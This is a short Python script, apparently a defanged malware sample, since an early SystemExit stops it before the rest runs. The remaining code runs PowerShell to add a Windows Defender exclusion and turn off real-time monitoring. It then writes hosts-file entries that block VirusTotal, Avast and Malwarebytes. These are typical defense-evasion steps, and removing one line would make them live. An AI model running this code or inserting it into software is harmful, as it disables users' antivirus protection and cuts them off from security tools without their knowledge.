import subprocess

raise SystemExit
subprocess.run(["powershell", "-Command", "Add-MpPreference -ExclusionPath C:\\nonexistent; Set-MpPreference -DisableRealtimeMonitoring $true"])
with open(r"C:\Windows\System32\drivers\etc\hosts", "a") as f:
    f.write("0.0.0.0 virustotal.com\n0.0.0.0 avast.com\n0.0.0.0 malwarebytes.com\n")
